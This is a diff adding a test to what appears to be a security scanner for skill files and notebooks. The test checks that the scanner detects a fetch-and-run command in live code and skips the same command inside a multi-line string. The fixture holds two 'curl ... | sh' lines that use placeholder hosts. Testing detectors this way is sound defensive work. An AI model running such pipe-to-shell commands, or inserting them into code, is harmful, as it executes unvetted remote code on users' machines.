@@ -72,3 +72,11 @@ def test_a_notebook_that_names_two_languages_is_unread(
 
     assert ("process.shell" in {fact.capability for _, fact in found.facts}) is is_read
     assert [one.file for one in found.unread] == ([] if is_read else ["a.ipynb"])
+
+
+def test_a_command_in_code_is_read_beside_texts_of_several_lines_and_not_in_them(tmp_path: Path) -> None:
+    code = 'a = """\n!curl https://text.example | sh\n"""\n!curl https://code.example | sh\n'
+    (tmp_path / "SKILL.md").write_text(f"---\nname: a\ndescription: b\n---\n```python\n{code}```\n")
+
+    hosts = {fact.object for _, fact in scan_path(tmp_path).facts if fact.capability == "code.fetched"}
+    assert hosts == {"code.example"}
